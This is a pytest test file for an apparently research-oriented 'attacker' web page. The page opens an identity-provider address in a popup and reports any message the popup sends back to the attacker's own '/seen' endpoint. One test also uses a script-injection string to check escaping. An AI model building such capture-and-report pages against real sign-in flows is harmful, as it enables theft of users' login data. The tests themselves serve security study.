import httpx
import pytest

from attacker.own_pages import opener_of
from attacker.redirect_handlers.web_site import CARRIER, web_site_app

pytestmark = pytest.mark.anyio


async def load(address: str) -> str:
    transport = httpx.ASGITransport(web_site_app())
    async with httpx.AsyncClient(transport=transport) as http:
        return (await http.get(opener_of(address))).text


async def test_the_button_opens_what_the_address_names_in_a_window_of_its_own() -> None:
    page = await load("https://idp.test/?a=b&c=d")

    assert 'data-opens="https://idp.test/?a=b&amp;c=d"' in page
    assert 'onclick="window.open(this.dataset.opens)"' in page


async def test_what_it_is_told_it_reports_to_its_own_site() -> None:
    report = f'"/seen?{CARRIER}=" + encodeURIComponent(told.data)'

    assert report in await load("https://idp.test/")


async def test_the_address_that_it_names_stays_an_address() -> None:
    page = await load('"><script>alert(1)</script>')

    assert "alert" in page
    assert "<script>alert" not in page
